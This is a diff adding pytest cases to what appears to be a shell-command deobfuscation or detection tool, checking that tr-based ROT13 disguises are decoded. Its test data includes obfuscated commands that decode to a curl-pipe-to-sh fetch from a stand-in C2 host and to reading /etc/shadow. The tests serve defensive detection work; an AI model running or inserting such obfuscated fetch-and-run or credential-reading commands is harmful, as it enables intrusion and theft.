@@ -110,3 +110,22 @@ def test_rev_and_xxd_near_misses_add_nothing_dangerous():
     assert all("rm -rf" not in v for v in views("xxd -r -p dump.hex > out.bin"))
     # an odd-length or non-hex string is left alone
     assert len(views("echo 7g6d | xxd -r -p")) <= 2
+
+
+@pytest.mark.parametrize("raw,expected", [
+    ("tr 'a-z' 'n-za-m' <<< 'phey -f uggcf://p2.rknzcyr.arg/k | fu' | sh", "curl -s https://c2.example.net/x | sh"),
+    ("echo 'png /rgp/funqbj' | tr 'A-Za-z' 'N-ZA-Mn-za-m'", "cat /etc/shadow"),
+])
+def test_tr_substitution_payloads_are_shown(raw, expected):
+    assert expected in views(raw)
+
+
+def test_tr_near_misses():
+    assert all("shadow" not in v for v in views("cat names.txt | tr -d '\\r' | sort"))
+    assert all("curl" not in v for v in views("echo 'hello world' | tr a-z A-Z"))
+
+
+def test_tr_bounded_time():
+    t = time.perf_counter()
+    views("echo '" + "a" * 4000 + "' | tr '" + "a-z" * 40 + "' 'n-za-m' " * 200)
+    assert time.perf_counter() - t < 2.0
